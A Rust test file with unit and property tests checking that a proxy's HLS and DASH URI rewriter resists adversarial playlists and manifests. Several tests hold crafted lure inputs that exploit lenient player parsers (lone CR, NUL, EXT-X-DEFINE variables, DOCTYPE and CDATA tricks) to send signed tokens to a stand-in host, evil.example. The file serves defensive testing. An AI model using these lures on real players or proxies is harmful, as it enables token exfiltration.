//! Adversarial input for both formats, through `rewrite` as the proxy calls
//! it: huge lines, every line ending, quotes, look-alike attributes, NUL,
//! invalid UTF-8, a BOM, 100,000 segments. Each test states what must hold:
//! a kept URI keeps every byte, exactly the URIs are rewritten, no panic.

use proptest::prelude::*;

use super::{Format, Rewrite, Use, rewrite};

/// Keeps every URI: the output must be the input.
struct Keep;
impl Rewrite for Keep {
    fn uri(&mut self, _: &str, _: Use) -> Option<String> {
        None
    }
}

/// Records every URI offered and returns `new` (or the URI itself).
#[derive(Default)]
struct Record {
    offered: Vec<(String, Use)>,
    new: Option<&'static str>,
}
impl Rewrite for Record {
    fn uri(&mut self, uri: &str, used: Use) -> Option<String> {
        self.offered.push((uri.to_owned(), used));
        Some(self.new.map_or_else(|| format!("[{uri}]"), str::to_owned))
    }
}

/// Gives every URI back as it was offered (decoded, for DASH).
struct Echo;
impl Rewrite for Echo {
    fn uri(&mut self, uri: &str, _: Use) -> Option<String> {
        Some(uri.to_owned())
    }
}

/// A value with every character XML escapes and an HLS attribute cannot hold.
const AWKWARD: &str = "a&b\"c'd<e>";

fn run(format: Format, input: &[u8]) -> (Vec<u8>, Vec<String>) {
    assert_eq!(rewrite(format, input, &mut Keep), input, "a kept URI keeps every byte");
    let mut r = Record::default();
    let out = rewrite(format, input, &mut r);
    (out, r.offered.into_iter().map(|(u, _)| u).collect())
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn lines(bytes: &[u8]) -> Vec<&[u8]> {
    bytes.split_inclusive(|&b| b == b'\n').collect()
}

// HLS

#[test]
fn hls_a_one_mebibyte_uri_line_is_offered_whole() {
    let uri = format!("/media/{}.ts", "a".repeat(1 << 20));
    let input = format!("#EXTM3U\n#EXTINF:4,\n{uri}\n#EXT-X-MAP:URI=\"{uri}\"\n#EXT-X-KEY:URI=\"{uri}\n");
    let (out, offered) = run(Format::Hls, input.as_bytes());
    assert_eq!(offered, vec![uri.clone(), uri.clone()], "the line and the map; the unterminated key is not");
    let want = format!("#EXTM3U\n#EXTINF:4,\n[{uri}]\n#EXT-X-MAP:URI=\"[{uri}]\"\n#EXT-X-KEY:URI=\"{uri}\n");
    assert!(out == want.as_bytes());
}

#[test]
fn hls_line_endings_are_kept_and_only_lf_ends_a_rewritten_line() {
    // CRLF, LF, a CR run before LF, no ending at all: each kept as it was.
    let (out, offered) = run(Format::Hls, b"#EXTM3U\r\na.ts\r\nb.ts\nc.ts\r\r\n\r\n  d.ts\t\r\ne.ts");
    assert_eq!(offered, ["a.ts", "b.ts", "c.ts", "d.ts", "e.ts"]);
    assert_eq!(text(&out), "#EXTM3U\r\n[a.ts]\r\n[b.ts]\n[c.ts]\r\r\n\r\n  [d.ts]\t\r\n[e.ts]");
}

#[test]
fn hls_a_line_a_player_would_end_sooner_is_never_rewritten() {
    // hls.js, ExoPlayer, Shaka and FFmpeg end a line at a lone CR (FFmpeg
    // also at NUL, hls.js's tag patterns at U+2028/U+2029): the text after
    // it is a URI line of its own to them, here on another origin, and the
    // token written into the tag before it would travel with it.
    for sep in ["\r", "\0", "\u{2028}", "\u{2029}"] {
        for line in [
            format!("#EXT-X-MAP:BYTERANGE=1{sep}//evil.example/?,URI=\"/media/init.mp4\""),
            format!("#EXT-X-KEY:METHOD=AES-128,IV=0x1{sep}https://evil.example/?,URI=\"/keys/k\""),
            format!("#EXT-X-PART:DURATION=1,URI=\"/media/p.m4s\",X=1{sep}//evil.example/"),
            format!("/media/a.ts{sep}//evil.example/b.ts"),
            format!("/media/a.ts?x{sep}//evil.example/b.ts"),
        ] {
            let input = format!("#EXTM3U\n{line}\n/media/next.ts\n");
            let (out, offered) = run(Format::Hls, input.as_bytes());
            assert_eq!(offered, ["/media/next.ts"], "{line:?}");
            assert_eq!(text(&out), format!("#EXTM3U\n{line}\n[/media/next.ts]\n"), "{line:?}");
        }
    }
    // A playlist with CR alone for line ends is one line: kept whole.
    let classic = b"#EXTM3U\r#EXT-X-MAP:URI=\"init.mp4\"\r#EXTINF:4,\rseg.ts\r";
    assert_eq!(run(Format::Hls, classic), (classic.to_vec(), vec![]));
}

#[test]
fn hls_quotes_in_uris() {
    // A URI line is not quoted: a quote in it is part of the URI.
    let (out, offered) = run(Format::Hls, b"seg\"1'.ts\n");
    assert_eq!(offered, ["seg\"1'.ts"]);
    assert_eq!(text(&out), "[seg\"1'.ts]\n");
    // A quoted value ends at the next quote: text after it is malformed.
    for line in ["#EXT-X-MAP:URI=\"a\"b\"", "#EXT-X-MAP:URI=\"a\"\"", "#EXT-X-MAP:URI=\"\"a\"", "#EXT-X-MAP:URI='a'"] {
        assert_eq!(run(Format::Hls, line.as_bytes()), (line.as_bytes().to_vec(), vec![]), "{line}");
    }
    // A new value a quoted attribute cannot hold is not written; a URI line can.
    let input = b"#EXT-X-MAP:URI=\"init.mp4\"\nseg.ts\n";
    let mut r = Record { new: Some(AWKWARD), ..Record::default() };
    let out = rewrite(Format::Hls, input, &mut r);
    assert_eq!(r.offered.len(), 2);
    assert_eq!(text(&out), format!("#EXT-X-MAP:URI=\"init.mp4\"\n{AWKWARD}\n"));
}

#[test]
fn hls_uri_inside_another_attribute_is_not_the_uri() {
    let input = "#EXT-X-MEDIA:TYPE=AUDIO,NAME=\"URI=evil.m3u8\",URI=\"en.m3u8\"\n\
#EXT-X-KEY:METHOD=AES-128,KEYFORMAT=\"URI=\",URI=\"/keys/k\"\n\
#EXT-X-MAP:X-URI=\"x.mp4\",URI=\"init.mp4\"\n\
#EXT-X-MAP:XURI=\"x.mp4\"\n\
#EXT-X-MAP:uri=\"lower.mp4\"\n\
#EXT-X-MAP:BYTERANGE=\"1@0,URI=\"fake.mp4\"\n\
#EXT-X-MAP:A=\"q,URI=\",URI=\"real.mp4\"\n\
#EXT-X-MAP: URI = \"spaced-name\" \n\
#EXT-X-MAP:URI=\"first.mp4\",URI=\"second.mp4\"\n\
#EXT-X-STREAM-INF:BANDWIDTH=1,URI=\"not-a-uri-tag\"\n\
# EXT-X-MAP:URI=\"comment\"\n\
#EXTINF:4,URI=\"title\"\n";
    let mut r = Record::default();
    let out = rewrite(Format::Hls, input.as_bytes(), &mut r);
    let offered: Vec<(&str, Use)> = r.offered.iter().map(|(u, k)| (u.as_str(), *k)).collect();
    assert_eq!(
        offered,
        [
            ("en.m3u8", Use::Content),
            ("/keys/k", Use::Key),
            ("init.mp4", Use::Content),
            ("real.mp4", Use::Content),
            ("first.mp4", Use::Content),
        ]
    );
    // `URI = "…"`: a blank after `=` makes the value unquoted; the trailing
    // blank after the closing quote makes the list malformed either way.
    let out = text(&out);
    for kept in ["NAME=\"URI=evil.m3u8\"", "KEYFORMAT=\"URI=\"", "X-URI=\"x.mp4\"", "URI=\"second.mp4\""] {
        assert!(out.contains(kept), "{kept} in {out}");
    }
    assert!(out.contains("#EXT-X-MAP:BYTERANGE=\"1@0,URI=\"fake.mp4\"\n"), "{out}");
    assert_eq!(lines(out.as_bytes()).len(), lines(input.as_bytes()).len());
}

#[test]
fn hls_one_hundred_thousand_segments() {
    let mut input = String::from("#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXT-X-MAP:URI=\"init.mp4\"\n");
    for i in 0..100_000 {
        input.push_str(&format!("#EXTINF:4.000,\nseg-{i:06}.m4s\n"));
    }
    input.push_str("#EXT-X-ENDLIST\n");
    let (out, offered) = run(Format::Hls, input.as_bytes());
    assert_eq!(offered.len(), 100_001);
    assert_eq!(offered[0], "init.mp4");
    assert_eq!(offered[100_000], "seg-099999.m4s");
    let (before, after) = (lines(input.as_bytes()), lines(&out));
    assert_eq!(before.len(), after.len());
    let changed = before.iter().zip(&after).filter(|(b, a)| b != a).count();
    assert_eq!(changed, 100_001, "exactly the URI lines and the map");
}

#[test]
fn hls_malformed_tags_are_kept() {
    for line in [
        "#EXT-X-KEY",
        "#EXT-X-KEY:",
        "#EXT-X-KEY:URI",
        "#EXT-X-KEY:URI=",
        "#EXT-X-KEY:URI=\"",
        "#EXT-X-KEY:URI=x",
        "#EXT-X-KEY:=\"x\"",
        "#EXT-X-KEY:,,,",
        "#EXT-X-KEY:METHOD=AES-128,,URI=\"k\"",
        "#EXT-X-KEY:METHOD,URI=\"k\"",
        "#EXT-X-KEY:URI=\"k\"x",
        "#EXT-X-KEY:URI=\"k\" ",
        "#EXT-X-KEY :URI=\"k\"",
        "#ext-x-key:URI=\"k\"",
        "#EXT-X-MAP:é=\"ü\"",
        "#EXT-X-MAP:\u{1F600}",
        "#:URI=\"k\"",
        "#",
        "##EXT-X-MAP:URI=\"k\"",
    ] {
        let (out, offered) = run(Format::Hls, line.as_bytes());
        assert_eq!((text(&out).as_str(), offered), (line, vec![]), "{line}");
    }
    // Non-ASCII around the value is cut at character boundaries.
    let (out, offered) = run(Format::Hls, "#EXT-X-MAP:NAMÉ=\"é\",URI=\"ü.mp4\",X=\"€\"".as_bytes());
    assert_eq!(offered, ["ü.mp4"]);
    assert_eq!(text(&out), "#EXT-X-MAP:NAMÉ=\"é\",URI=\"[ü.mp4]\",X=\"€\"");
}

#[test]
fn hls_nul_and_invalid_utf8_lines_are_kept_and_the_rest_rewritten() {
    let input = b"#EXTM3U\nseg\0.ts\nseg\xff.ts\n#EXT-X-MAP:URI=\"\xc3\"\nok.ts\n\xe2\x82";
    let (out, offered) = run(Format::Hls, input);
    assert_eq!(offered, ["ok.ts"]);
    assert_eq!(out, b"#EXTM3U\nseg\0.ts\nseg\xff.ts\n#EXT-X-MAP:URI=\"\xc3\"\n[ok.ts]\n\xe2\x82".to_vec());
}

#[test]
fn hls_a_byte_order_mark_is_not_part_of_the_first_line() {
    let input = "\u{FEFF}#EXTM3U\n#EXTINF:4,\nseg.ts\n";
    let (out, offered) = run(Format::Hls, input.as_bytes());
    assert_eq!(offered, ["seg.ts"], "the header is a tag, not a URI");
    assert_eq!(text(&out), "\u{FEFF}#EXTM3U\n#EXTINF:4,\n[seg.ts]\n");
    // Only a BOM at the very start: one later is part of its line.
    let (_, offered) = run(Format::Hls, "#EXTM3U\n\u{FEFF}seg.ts\n".as_bytes());
    assert_eq!(offered, ["\u{FEFF}seg.ts"]);
    let (out, offered) = run(Format::Hls, b"\xEF\xBB\xBFseg.ts");
    assert_eq!((out, offered), (b"\xEF\xBB\xBF[seg.ts]".to_vec(), vec!["seg.ts".to_owned()]));
}

#[test]
fn hls_uris_with_variables_are_not_offered() {
    // A player substitutes `{$h}` first (EXT-X-DEFINE): here it would put
    // the signed query a relative URI carries on another origin.
    let input = "#EXTM3U\n#EXT-X-DEFINE:NAME=\"h\",VALUE=\"https://evil.example/\"\n\
#EXT-X-MAP:URI=\"{$h}init.mp4\"\n#EXT-X-KEY:METHOD=AES-128,URI=\"{$h}k\"\n#EXTINF:4,\n{$h}seg.ts\n\
#EXTINF:4,\nseg-{1}-$.ts\n";
    let (out, offered) = run(Format::Hls, input.as_bytes());
    assert_eq!(offered, ["seg-{1}-$.ts"]);
    assert_eq!(text(&out), input.replace("seg-{1}-$.ts", "[seg-{1}-$.ts]"));
}

// DASH

fn mpd(body: &str) -> String {
    format!("<?xml version=\"1.0\"?>\n<MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\">{body}</MPD>\n")
}

#[test]
fn dash_one_mebibyte_values_and_an_unterminated_tag() {
    let uri = format!("/media/{}.m4s", "a".repeat(1 << 20));
    let input = mpd(&format!("<BaseURL>{uri}</BaseURL><SegmentURL media=\"{uri}\"/>"));
    let (out, offered) = run(Format::Dash, input.as_bytes());
    assert_eq!(offered, [uri.clone(), uri.clone()]);
    assert!(out == input.replace(&uri, &format!("[{uri}]")).as_bytes());
    // Never closed: a 1 MiB tag, a quote, a comment: copied as they are.
    for open in ["<SegmentURL media=\"", "<SegmentURL media='x' ", "<!--", "<![CDATA[", "<?pi "] {
        let input = format!("<BaseURL>a</BaseURL>{open}{}", "b".repeat(1 << 20));
        let (out, offered) = run(Format::Dash, input.as_bytes());
        assert_eq!(offered, ["a"]);
        assert!(out == input.replacen(">a<", ">[a]<", 1).as_bytes(), "{open}");
    }
}

#[test]
fn dash_line_endings_inside_and_around_tags_are_kept() {
    let input =
        "<MPD>\r\n<SegmentURL\r\n  media=\"a.m4s\"\r\tmediaRange=\"0-1\"\r/>\r\n<BaseURL>\r\n b/ \r\n</BaseURL>\r";
    let (out, offered) = run(Format::Dash, input.as_bytes());
    assert_eq!(offered, ["a.m4s", "b/"]);
    assert_eq!(
        text(&out),
        "<MPD>\r\n<SegmentURL\r\n  media=\"[a.m4s]\"\r\tmediaRange=\"0-1\"\r/>\r\n<BaseURL>\r\n [b/] \r\n</BaseURL>\r"
    );
}

#[test]
fn dash_quotes_in_uris_are_decoded_offered_and_escaped_again() {
    let input =
        mpd("<SegmentURL media=\"a'b&quot;c\"/><SegmentURL media='d\"e'/><Initialization sourceURL=\"&#34;&#x27;\"/>");
    let (_, offered) = run(Format::Dash, input.as_bytes());
    assert_eq!(offered, ["a'b\"c", "d\"e", "\"'"]);
    // A new value with every special character is escaped, never raw.
    let mut r = Record { new: Some(AWKWARD), ..Record::default() };
    let out = text(&rewrite(Format::Dash, input.as_bytes(), &mut r));
    assert!(!out.contains(AWKWARD), "{out}");
    let escaped = "a&amp;b&quot;c&apos;d&lt;e&gt;";
    assert_eq!(out.matches(escaped).count(), 3, "{out}");
    // Read back, the rewritten document offers exactly the new value.
    let (_, again) = run(Format::Dash, out.as_bytes());
    assert_eq!(again, [AWKWARD; 3]);
}

#[test]
fn dash_control_characters_survive_the_round_trip() {
    // `&#10;` decoded is a line feed; written raw in an attribute a parser
    // would read it as a space, so it goes back as a reference.
    let input = "<SegmentURL media=\"a&#10;b&#9;c&#13;d\"/><BaseURL>e&#10;f</BaseURL>";
    let out = text(&rewrite(Format::Dash, input.as_bytes(), &mut Echo));
    assert_eq!(out, input);
    let (_, offered) = run(Format::Dash, input.as_bytes());
    assert_eq!(offered, ["a\nb\tc\rd", "e\nf"]);
}

#[test]
fn dash_uri_attributes_inside_other_values_are_not_uris() {
    let input = mpd("<SegmentURL id='media=\"fake\"' media=\"real\"/>\
<SegmentURL mediaRange=\"0-1 media=&quot;x&quot;\" media=\"real2\"/>\
<SegmentURL xmedia=\"no\" data-media=\"no\"/>\
<SegmentURLs media=\"no\"/><xSegmentURL media=\"no\"/>\
<SegmentTemplate MEDIA=\"no\" media=\"t-$Number$.m4s\"/>\
<Representation media=\"no\"><BaseURL>yes/</BaseURL></Representation>\
<!-- <SegmentURL media=\"comment\"/> --><![CDATA[<BaseURL>cdata</BaseURL>]]>\
<?pi <BaseURL>pi</BaseURL> ?><Label>media=\"label\"</Label>\
</SegmentURL media=\"end-tag\">");
    let (_, offered) = run(Format::Dash, input.as_bytes());
    assert_eq!(offered, ["real", "real2", "t-$Number$.m4s", "yes/"]);
}

#[test]
fn dash_markup_a_lenient_parser_reads_otherwise_ends_the_rewriting() {
    // Shaka's parser skips a DOCTYPE to its first `>`, a stray quote in a
    // tag, an end tag to its first `>`, and takes `<!-x` for a comment and
    // `<![cdata[` for CDATA; the scan once honoured quotes in all of them.
    // Each lure hides the SegmentURL after it in what Shaka reads as the
    // value of a SegmentURL on evil.example: a token written into it would
    // be sent there. (The third is what the fuzzer found first.)
    for lure in [
        "<!DOCTYPE x \"><SegmentURL media='//evil.example/?\">",
        "<SegmentURL \" media='//evil.example/?\">",
        "<SegmentTemplate initialization=\"a\"2=\"\"/><SegmentURL media='//evil.example/?\">",
        "<!-x '--><SegmentURL media=\"//evil.example/?'>",
        "<![cdata[ '...]]><SegmentURL media=\"//evil.example/?'>",
        "</Period '><SegmentURL media=\"//evil.example/?'>",
        "<SegmentURL media=//evil.example/?\"/>",
        "<SegmentURL media=\"a<b\"/>",
        "<SegmentURL media=\"a\"index=\"b\"/>",
        "<?pi '?>'?>",
        "< SegmentURL media=\"x\"/>",
        "<_x/>",
    ] {
        let input = mpd(&format!("<BaseURL>before/</BaseURL>{lure}<SegmentURL media=\"/media/u1/x.m4s\"/>'/>\"/>"));
        let (out, offered) = run(Format::Dash, input.as_bytes());
        assert_eq!(offered, ["before/"], "{lure}");
        assert_eq!(text(&out), input.replacen("before/", "[before/]", 1), "{lure}");
    }
}

/// An MPD as FFmpeg 5 writes it (`-f dash -use_template 1 -use_timeline 0`).
const FFMPEG_MPD: &str = r#"<?xml version="1.0" encoding="utf-8"?>
<MPD xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
	xmlns="urn:mpeg:dash:schema:mpd:2011"
	xmlns:xlink="http://www.w3.org/1999/xlink"
	xsi:schemaLocation="urn:mpeg:DASH:schema:MPD:2011 http://standards.iso.org/ittf/PubliclyAvailableStandards/MPEG-DASH_schema_files/DASH-MPD.xsd"
	profiles="urn:mpeg:dash:profile:isoff-live:2011"
	type="static"
	mediaPresentationDuration="PT3.0S"
	maxSegmentDuration="PT1.0S"
	minBufferTime="PT6.0S">
	<ProgramInformation>
	</ProgramInformation>
	<ServiceDescription id="0">
	</ServiceDescription>
	<Period id="0" start="PT0.0S">
		<AdaptationSet id="0" contentType="video" startWithSAP="1" segmentAlignment="true" bitstreamSwitching="true" frameRate="25/1" maxWidth="320" maxHeight="240" par="4:3">
			<Representation id="0" mimeType="video/mp4" codecs="avc1.f4000d" bandwidth="46808" width="320" height="240" sar="1:1">
				<SegmentTemplate timescale="1000000" duration="1000000" initialization="init-stream$RepresentationID$.m4s" media="chunk-stream$RepresentationID$-$Number%05d$.m4s" startNumber="1">
				</SegmentTemplate>
			</Representation>
		</AdaptationSet>
		<AdaptationSet id="1" contentType="audio" startWithSAP="1" segmentAlignment="true" bitstreamSwitching="true">
			<Representation id="1" mimeType="audio/mp4" codecs="mp4a.40.2" bandwidth="69000" audioSamplingRate="44100">
				<AudioChannelConfiguration schemeIdUri="urn:mpeg:dash:23003:3:audio_channel_configuration:2011" value="1" />
				<SegmentTemplate timescale="1000000" duration="1000000" initialization="init-stream$RepresentationID$.m4s" media="chunk-stream$RepresentationID$-$Number%05d$.m4s" startNumber="1">
				</SegmentTemplate>
			</Representation>
		</AdaptationSet>
	</Period>
</MPD>
"#;

#[test]
fn dash_the_strict_form_reads_what_a_packager_writes() {
    let with_base = FFMPEG_MPD.replacen("<Period ", "<BaseURL>/media/u1/dash/</BaseURL>\n\t<Period ", 1);
    let (out, offered) = run(Format::Dash, with_base.as_bytes());
    let (init, media) = ("init-stream$RepresentationID$.m4s", "chunk-stream$RepresentationID$-$Number%05d$.m4s");
    assert_eq!(offered, ["/media/u1/dash/", init, media, init, media]);
    assert_eq!(text(&out).matches('[').count(), 5);
}

#[test]
fn dash_a_base_url_is_rewritten_only_when_its_text_is_whole() {
    // A comment or CDATA section inside joins the text after it to the URI.
    for input in [
        "<BaseURL>https://files.example<!-- -->.evil.example/</BaseURL>",
        "<BaseURL>/media/u1/<![CDATA[../x]]></BaseURL>",
        "<BaseURL>a<b/></BaseURL>",
        "<Location>a<!---->b</Location>",
    ] {
        assert_eq!(run(Format::Dash, input.as_bytes()), (input.as_bytes().to_vec(), vec![]), "{input}");
    }
    let (_, offered) = run(Format::Dash, b"<BaseURL> a/ </BaseURL><BaseURL>b/</mpd:BaseURL><BaseURL>c/");
    assert_eq!(offered, ["a/", "b/", "c/"]);
}

#[test]
fn dash_one_hundred_thousand_segment_urls() {
    let mut body = String::from("<Period><AdaptationSet><Representation id=\"v\"><SegmentList>");
    for i in 0..100_000 {
        body.push_str(&format!("<SegmentURL media=\"seg-{i:06}.m4s\"/>\n"));
    }
    body.push_str("</SegmentList></Representation></AdaptationSet></Period>");
    let input = mpd(&body);
    let (out, offered) = run(Format::Dash, input.as_bytes());
    assert_eq!(offered.len(), 100_000);
    assert_eq!(offered[99_999], "seg-099999.m4s");
    assert_eq!(out.len(), input.len() + 2 * 100_000, "each value gained two brackets, nothing else changed");
}

#[test]
fn dash_malformed_tags_are_kept() {
    for input in [
        "<",
        "<>",
        "</>",
        "< SegmentURL media=\"x\"/>",
        "<SegmentURL media=x/>",
        "<SegmentURL media = x/>",
        "<SegmentURL media=\"x'/>",
        "<SegmentURL =\"x\"/>",
        "<SegmentURL media=\"&bogus;\"/>",
        "<SegmentURL media=\"&#xD800;\"/>",
        "<SegmentURL media=\"&#99999999999;\"/>",
        "<SegmentURL media=\"&amp\"/>",
        "<BaseURL>&#x110000;</BaseURL>",
        "<BaseURL/>",
        "<BaseURL></BaseURL>",
        "<BaseURL>   </BaseURL>",
        "<BaseURL><!-- x --></BaseURL>",
        "<SegmentURL\u{1F600}media=\"x\"/>",
        "<é media=\"ü\">",
    ] {
        let (out, offered) = run(Format::Dash, input.as_bytes());
        assert_eq!((text(&out).as_str(), offered), (input, vec![]), "{input}");
    }
}

#[test]
fn dash_nul_invalid_utf8_and_bom() {
    // Not UTF-8: nothing is offered, every byte is kept.
    let input = b"<MPD><BaseURL>a/</BaseURL><SegmentURL media=\"\xff\"/></MPD>";
    assert_eq!(run(Format::Dash, input), (input.to_vec(), vec![]));
    // NUL is not XML, but nothing breaks on it.
    let (out, offered) = run(Format::Dash, b"<BaseURL>a\0b</BaseURL>\0<SegmentURL media=\"\0\"/>");
    assert_eq!(offered, ["a\0b", "\0"]);
    assert_eq!(out, b"<BaseURL>[a\0b]</BaseURL>\0<SegmentURL media=\"[\0]\"/>".to_vec());
    // A BOM is text before the first tag.
    let input = format!("\u{FEFF}{}", mpd("<BaseURL>v/</BaseURL>"));
    let (out, offered) = run(Format::Dash, input.as_bytes());
    assert_eq!(offered, ["v/"]);
    assert_eq!(text(&out), input.replace("v/", "[v/]"));
}

// Both, from fragments an attacker would combine.

const HLS_PIECES: &[&str] = &[
    "#EXTM3U",
    "#EXTINF:4,",
    "seg.ts",
    "  /media/a b.ts ",
    "#EXT-X-KEY:METHOD=AES-128,URI=\"k\"",
    "#EXT-X-MAP:URI=\"i\",BYTERANGE=\"1@0\"",
    "#EXT-X-MEDIA:NAME=\"URI=x\",URI=\"m\"",
    "#EXT-X-PART:URI=\"",
    "\"",
    ",",
    "URI=",
    "\r",
    "\n",
    "\r\n",
    "\0",
    "\u{2028}",
    "\u{FEFF}",
    "é",
    "{$v}",
    "#",
    ":",
    " ",
];

const DASH_PIECES: &[&str] = &[
    "<MPD>",
    "<BaseURL>",
    "</BaseURL>",
    "b/",
    "<SegmentURL media=\"",
    "<SegmentTemplate initialization='",
    "\"",
    "'",
    "/>",
    ">",
    "<",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<?",
    "?>",
    "&amp;",
    "&#10;",
    "&bogus;",
    "&",
    ";",
    "=",
    " ",
    "\r\n",
    "é",
    "\0",
];

fn pieces(from: &'static [&'static str]) -> impl Strategy<Value = String> {
    prop::collection::vec(prop::sample::select(from), 0..48).prop_map(|v| v.concat())
}

proptest! {
    #[test]
    fn hls_keeps_every_line_and_rewrites_only_uris(input in pieces(HLS_PIECES)) {
        let (out, _) = run(Format::Hls, input.as_bytes());
        let (before, after) = (lines(input.as_bytes()), lines(&out));
        prop_assert_eq!(before.len(), after.len());
        let mut r = Record { new: Some(AWKWARD), ..Record::default() };
        let awkward = rewrite(Format::Hls, input.as_bytes(), &mut r);
        let after = lines(&awkward);
        prop_assert_eq!(before.len(), after.len());
        for (i, (b, a)) in before.iter().zip(&after).enumerate() {
            // A changed line is a URI line (a quoted attribute cannot hold
            // the value), and its ending is kept.
            if b != a {
                let b = if i == 0 { b.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(b) } else { b };
                prop_assert!(!b.starts_with(b"#"), "{:?} -> {:?}", text(b), text(a));
                prop_assert!(text(a).contains(AWKWARD));
                let end = |l: &[u8]| l.iter().rev().take_while(|&&c| c == b'\n' || c == b'\r').count();
                prop_assert_eq!(end(b), end(a));
            }
        }
        // HLS decodes nothing: a URI given back as offered is the same bytes.
        prop_assert_eq!(rewrite(Format::Hls, input.as_bytes(), &mut Echo), input.as_bytes());
    }

    #[test]
    fn dash_never_writes_a_raw_value_and_reads_back_the_same_uris(input in pieces(DASH_PIECES)) {
        let (_, offered) = run(Format::Dash, input.as_bytes());
        let mut r = Record { new: Some(AWKWARD), ..Record::default() };
        let out = text(&rewrite(Format::Dash, input.as_bytes(), &mut r));
        prop_assert!(out.matches(AWKWARD).count() <= input.matches(AWKWARD).count());
        prop_assert_eq!(r.offered.len(), offered.len());
        prop_assert!(out.matches('<').count() <= input.matches('<').count());
        // Given back as offered, the URIs are written so that the output,
        // read again, offers the same ones (blanks around a BaseURL's
        // decoded text aside: they are trimmed before decoding).
        let echoed = rewrite(Format::Dash, input.as_bytes(), &mut Echo);
        if offered.iter().all(|u| u.trim() == u) {
            let (_, again) = run(Format::Dash, &echoed);
            prop_assert_eq!(again, offered);
        }
    }
}
